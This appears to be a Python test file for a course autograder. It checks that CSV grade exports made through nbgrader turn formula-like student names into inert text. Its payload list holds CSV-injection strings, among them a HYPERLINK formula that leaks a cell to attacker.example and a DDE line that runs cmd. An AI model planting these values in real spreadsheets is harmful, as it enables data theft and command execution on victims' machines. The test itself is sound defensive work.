"""Every CSV file the kit writes is inert in a spreadsheet: a roster's names that are formulas arrive as text.

The payloads are OWASP's CSV-injection examples. Through a real gradebook (nbgrader's API) and
`nbgrader export` with the course's configuration: grades.csv, the per-item CSV, and the three
LMS files; no cell of any of them begins as a formula, and the names are all there, quoted.
"""

import csv
import subprocess
import sys

import pytest
from nbgrader.api import Gradebook

from autograder import ROOT
from autograder.exports import lms_grades, spreadsheet
from autograder.integration.nbgrader_course import nbgrader_environment
from autograder.rounds.lms_download import RosterEntry

ASSIGNMENT = "bp"
PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-1+1",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
)
ROSTER = [
    RosterEntry(f"s{number}", payload, payload, f"s{number}@example.edu", f"u{number}")
    for number, payload in enumerate(PAYLOADS, start=1)
]

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_begins_a_formula_gets_a_quote_before_it(payload):
    assert spreadsheet.inert(payload) == "'" + payload


@pytest.mark.parametrize("cell", ["-1.5", "+2", "0", "s01", "Wang, Wei", "", 3.5, None])
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    assert spreadsheet.inert(cell) == cell


@pytest.fixture
def db_url(tmp_path, new_gradebook):
    """A gradebook of bp whose students' names are the payloads, each with an empty submission."""
    url = new_gradebook(tmp_path / "gradebook.db")
    with Gradebook(url) as book:
        book.add_assignment(ASSIGNMENT)
        book.add_notebook(ASSIGNMENT, ASSIGNMENT)
        book.add_grade_cell("sigmoid", ASSIGNMENT, ASSIGNMENT, max_score=1, cell_type="code")
        for entry in ROSTER:
            book.add_student(entry.id, first_name=entry.first_name, last_name=entry.last_name)
            book.add_submission(ASSIGNMENT, entry.id)
        book.db.commit()
    return url


def nbgrader_export(db_url, out, *options):
    command = [sys.executable, "-m", "nbgrader", "export", f"--to={out}", *options]
    command.append(f"--CourseDirectory.db_url={db_url}")
    subprocess.run(command, cwd=ROOT, env=nbgrader_environment(), check=True, capture_output=True)
    return out


def written_files(tmp_path, db_url):
    files = [
        nbgrader_export(db_url, tmp_path / "grades.csv"),
        nbgrader_export(
            db_url,
            tmp_path / "grades_per_item.csv",
            "--exporter=autograder.exports.per_item.PerItemCsvExporter",
        ),
    ]
    grades = lms_grades.assignment_grades(db_url, ASSIGNMENT)
    for lms in lms_grades.FORMATS:
        files.append(tmp_path / f"{lms}.csv")
        lms_grades.write(grades, ROSTER, lms, files[-1])
    return files


@pytest.mark.slow
@pytest.mark.nbgrader
def test_no_cell_of_any_csv_file_the_kit_writes_begins_a_formula(tmp_path, db_url):
    files = written_files(tmp_path, db_url)
    for path in files:
        with open(path, newline="", encoding="utf-8") as file:
            rows = list(csv.reader(file))
        cells = [cell for row in rows for cell in row]
        live = [
            cell
            for cell in cells
            if cell.startswith(spreadsheet.FORMULA_STARTS) and not spreadsheet._number(cell)
        ]
        assert live == [], path.name
        # each name is there, as text
        shown = {"'" + payload for payload in PAYLOADS}
        assert shown <= set(cells) or path.name.startswith(("canvas", "moodle", "blackboard")), (
            path.name
        )


@pytest.mark.slow
@pytest.mark.nbgrader
def test_grades_csv_keeps_a_name_with_a_comma_in_its_column(tmp_path, db_url):
    with Gradebook(db_url) as book:
        book.update_or_create_student("s1", last_name="Wang, Wei")
    path = nbgrader_export(db_url, tmp_path / "grades.csv")
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert {row["student_id"]: row["last_name"] for row in rows}["s1"] == "Wang, Wei"
    assert all(None not in row for row in rows)  # no row has more cells than the header
